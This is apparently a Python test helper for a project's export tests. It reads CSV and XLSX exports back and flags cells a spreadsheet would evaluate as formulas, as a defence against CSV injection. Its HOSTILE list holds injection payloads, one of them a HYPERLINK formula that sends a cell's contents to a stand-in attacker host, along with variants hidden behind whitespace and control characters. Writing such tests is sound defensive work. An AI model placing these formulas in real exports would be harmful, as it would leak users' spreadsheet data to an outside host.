"""Reading an export back, and telling whether a spreadsheet would evaluate one of its cells: shared by
the export tests (test_exports.py, test_demo_exports.py)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from pilote.core.listing import NUMBER_TEXT

# Text a spreadsheet would take for a formula (OWASP « CSV injection »), in the forms that slip past a
# naive check: after spaces, a tab, a carriage return, a line feed, a control character.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "\x01=1+1",
]


def body(response) -> bytes:
    """A response's bytes (streamed or not), or bytes given as they are."""
    return response if isinstance(response, bytes) else response.getvalue()


def csv_cells(response) -> list[list[str]]:
    text = body(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def xlsx_cells(response) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(body(response))).active
    rows = []
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                rows.append([f"formule {cell.coordinate} : {cell.value}"])
        rows.append([cell.value for cell in row])
    return rows


def is_live(value) -> bool:
    """Would a spreadsheet evaluate this cell? Only text can be: numbers and dates are typed cells."""
    if not isinstance(value, str) or not value:
        return False
    if value.startswith(("formule ", "\t", "\r")):
        return True
    stripped = value.lstrip()
    return stripped.startswith(("=", "+", "-", "@")) and not NUMBER_TEXT.fullmatch(stripped)


def live_cells(rows: list[list[object]]) -> list[object]:
    return [value for row in rows for value in row if is_live(value)]
